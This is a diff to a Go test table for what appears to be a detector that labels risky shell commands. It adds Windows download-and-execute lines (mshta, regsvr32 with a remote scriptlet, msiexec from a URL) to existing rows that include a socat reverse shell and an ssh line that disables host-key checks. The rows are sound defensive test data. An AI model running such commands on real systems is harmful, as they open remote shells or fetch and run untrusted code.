@@ -27,6 +27,10 @@ func TestFacts(t *testing.T) {
 		{"curl -o out.sh bin/x.sh", ""},
 		{"socat tcp:203.0.113.7:4444 exec:/bin/bash,pty,stderr", "reverse-shell"},
 		{"sudo socat stdin exec:/bin/bash", ""},
+		{"mshta https://x.example/fix.hta", "pipe-to-shell"},
+		{"regsvr32 /s /n /u /i:https://x.example/a.sct scrobj.dll", "pipe-to-shell"},
+		{"msiexec /i https://x.example/agent.msi /qn", "download-exec"},
+		{"msiexec /i agent.msi /qn", ""},
 		{"sudo ssh -o StrictHostKeyChecking=no -o BatchMode=yes root@localhost true", ""},
 		{"ssh -o StrictHostKeyChecking=no root@203.0.113.9 uptime", "weaken"},
 		// A placeholder is a word, not two redirections.
